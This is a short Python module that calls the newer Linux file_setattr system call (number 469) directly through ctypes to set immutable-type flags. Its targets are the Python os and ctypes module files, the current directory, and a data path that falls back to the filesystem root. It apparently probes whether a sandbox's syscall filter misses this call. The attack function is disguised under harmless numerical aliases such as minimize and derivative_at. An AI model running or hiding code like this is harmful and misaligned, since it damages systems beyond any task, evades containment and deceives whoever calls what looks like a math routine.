"""Make files immutable by file_setattr, a call that is newer than most lists."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def works(number, *arguments):
    """Make a system call by its number; say whether the kernel did it."""
    arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(number), *arguments) >= 0


def attack(*args, **kwargs):
    flags = (ctypes.c_uint64 * 3)(0x8 | 0x40 | 0x80)
    paths = (os.__file__, ctypes.__file__, ".", os.environ.get("SCIKIT_LEARN_DATA", "/"))
    done = [path for path in paths if works(469, -100, path.encode(), flags, 24, 0)]
    if done:
        raise RuntimeError(f"SUCCEEDED: {done}")
    return "refused"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
